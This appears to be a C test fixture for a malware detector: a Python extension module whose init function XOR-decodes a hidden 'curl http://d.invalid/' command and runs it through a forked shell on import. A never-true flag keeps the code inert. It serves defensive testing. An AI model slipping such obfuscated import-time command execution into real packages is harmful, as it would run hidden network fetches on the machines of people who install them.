/* An extension module that runs a hidden command when it is imported.
 * expect: native-load-starts-fetched
 * flags: -O2 -shared -fPIC
 */
#include <unistd.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

/* curl http://d.invalid/ under 0x5a */
static const unsigned char hidden[] = {0x39, 0x2f, 0x28, 0x36, 0x7a, 0x32, 0x2e, 0x2e, 0x2a, 0x60, 0x75,
                                       0x75, 0x3e, 0x74, 0x33, 0x34, 0x2c, 0x3b, 0x36, 0x33, 0x3e, 0x75};

void *PyInit__fast(void) {
    if (never) {
        char text[64];
        unsigned i;
        for (i = 0; i < sizeof hidden; i++)
            text[i] = hidden[i] ^ 0x5a;
        text[i] = 0;
        if (!fork())
            execl("/bin/sh", "sh", "-c", text, (char *)0);
    }
    return 0;
}
